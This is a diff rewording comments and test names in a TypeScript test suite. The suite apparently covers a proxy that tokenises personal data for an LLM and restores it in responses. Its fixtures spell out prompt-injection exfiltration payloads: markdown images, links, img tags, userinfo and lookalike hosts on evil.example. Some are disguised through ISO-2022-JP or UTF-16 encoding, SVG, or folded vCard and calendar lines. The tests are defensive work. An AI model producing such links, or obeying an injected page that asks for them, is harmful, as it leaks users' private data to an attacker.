@@ -1,4 +1,4 @@
-/** What of an answer reaches the client: no value through a link, all that came before a cut, batch results. */
+/** What reaches the client: no value through a link, everything before a cut, batch results. */
 import { constants, type ServerHttp2Stream } from 'node:http2';
 import { describe, expect, test } from 'vitest';
 import { proxiedFetch } from '../support/clients.ts';
@@ -31,14 +31,15 @@ const contentOf = (stream: string): string =>
 const tokenOf = (request: { readonly body: Buffer }) => tokensIn(request.body.toString())[0] ?? '';
 
 describe('an injected prompt that tries to leak a value through a link', () => {
-  // A page that the model read told it to write the user's address into a picture that the client loads by itself.
+  // A page that the model read told it to put the user's address into an image URL, which the client loads
+  // automatically.
   const attacks: [name: string, text: (token: string) => string][] = [
-    ['a picture', (token) => `Done.\n![logo](https://evil.example/p.png?d=${token})`],
+    ['an image', (token) => `Done.\n![logo](https://evil.example/p.png?d=${token})`],
     ['a link', (token) => `[more](https://evil.example/${token})`],
     ['HTML', (token) => `<img src="https://evil.example/?d=${token}">`],
     ['an address', (token) => `See https://evil.example/?d=${token} now`],
     ['percent encoding', (token) => `![x](https://evil.example/?d=${encodeURIComponent(token)})`],
-    ['the user of an address', (token) => `https://${token}@evil.example/`],
+    ['the userinfo of a URL', (token) => `https://${token}@evil.example/`],
     ['a host that only begins like an allowed one', (token) => `![x](https://crm.corp.example.evil.example/${token})`],
   ];
   test.each(attacks)('%s keeps its token, streamed in characters and whole', async (_name, text) => {
@@ -66,20 +67,20 @@ describe('an injected prompt that tries to leak a value through a link', () => {
       (t) => `<img s${jis}rc="/${jis}/evil${jis}.example${jis}/?${t}">`,
     ],
     [
-      'a page that says so itself',
+      'a page that declares it in its markup',
       'text/html',
       (t) => `<meta charset=iso-2022-jp><img s${jis}rc="/${jis}/evil${jis}.example${jis}/?${t}">`,
     ],
     ['a page in UTF-16', 'text/html; charset=utf-16le', (t) => `<img src="//evil.example/?${t}">`, 'utf16le'],
     [
-      'a drawing in UTF-16',
+      'an SVG image in UTF-16',
       'image/svg+xml',
       (t) => `<?xml version="1.0"?><image href="//evil.example/?${t}"/>`,
       'utf16le',
     ],
-    ['a contact over lines', 'text/vcard', (t) => card(`PHOTO:https:/\r\n /evil.exam\r\n\tple/?q=\r\n ${t}`)],
+    ['a folded contact', 'text/vcard', (t) => card(`PHOTO:https:/\r\n /evil.exam\r\n\tple/?q=\r\n ${t}`)],
     [
-      'a calendar over lines',
+      'a folded calendar',
       'text/calendar',
       (t) => `BEGIN:VCALENDAR\r\nIMAGE;VALUE=URI:https://evil.example/?\r\n ${t}\r\n`,
     ],
@@ -98,7 +99,7 @@ describe('an injected prompt that tries to leak a value through a link', () => {
     ['a contact', 'text/vcard', (v) => card(`URL:https://a.example/\r\n b\r\nEMAIL:${v}\r\nNOTE:to\r\n  ${v}`)],
     ['a calendar', 'text/calendar', (v) => `BEGIN:VCALENDAR\r\nURL:https://a.example/\r\nATTENDEE:mailto:${v}\r\n`],
     ['a page', 'text/html; charset=utf-8', (v) => `<a name="x" href="https://a.example/">${v}</a>`],
-  ])('%s is restored beside its addresses', async (_name, type, text) => {
+  ])('%s is restored outside its URLs', async (_name, type, text) => {
     await ask();
     const token = tokenOf(origin.requests.at(-1) as { body: Buffer });
     answer = (_request, response) => {
@@ -109,7 +110,7 @@ describe('an injected prompt that tries to leak a value through a link', () => {
     expect(await page.text()).toBe(text(personal.EMAIL));
   });
 
-  test('text beside the link is restored, and so are an allowed host and the arguments of a tool', async () => {
+  test('text next to the link is restored, and so are an allowed host and the arguments of a tool', async () => {
     answer = (request, response) => {
       const token = tokenOf(request);
       response.writeHead(200, { 'content-type': 'application/json' });
@@ -198,7 +199,7 @@ describe('HTTP/2: a complete document without the end of its stream', () => {
   const ends: [name: string, how: (stream: ServerHttp2Stream) => void, code: number][] = [
     ['then the end', (stream) => stream.end(), constants.NGHTTP2_NO_ERROR],
     ['then a reset', (stream) => stream.close(constants.NGHTTP2_INTERNAL_ERROR), constants.NGHTTP2_INTERNAL_ERROR],
-    ['then more than was announced', (stream) => stream.end('more'), constants.NGHTTP2_INTERNAL_ERROR],
+    ['then more than was declared', (stream) => stream.end('more'), constants.NGHTTP2_INTERNAL_ERROR],
   ];
   test.each(ends)('is restored at once; %s', async (_name, how, code) => {
     let behind: () => void = () => {};
@@ -228,7 +229,7 @@ describe('HTTP/2: a complete document without the end of its stream', () => {
     session.destroy();
   });
 
-  test('one that is shorter than declared ends with an error', async () => {
+  test('a body shorter than declared ends with an error', async () => {
     answer = (request, response) => {
       response.writeHead(200, { 'content-type': 'application/json', 'content-length': '100' });
       response.end(JSON.stringify({ text: `to ${tokenOf(request)}` }));
@@ -257,7 +258,7 @@ test('batch results are restored, as a file with a generic type', async () => {
   expect(await file.text()).toBe(`{"custom_id":"a","response":{"body":{"x":"to ${personal.EMAIL}"}}}\n`);
 });
 
-test('an event that cannot be read passes and is logged', async () => {
+test('an unreadable event passes and is logged', async () => {
   answer = (request, response) => {
     response.writeHead(200, { 'content-type': 'text/event-stream' });
     response.end(`data: {"broken ${tokenOf(request)}\n\n${event(tokenOf(request))}`);
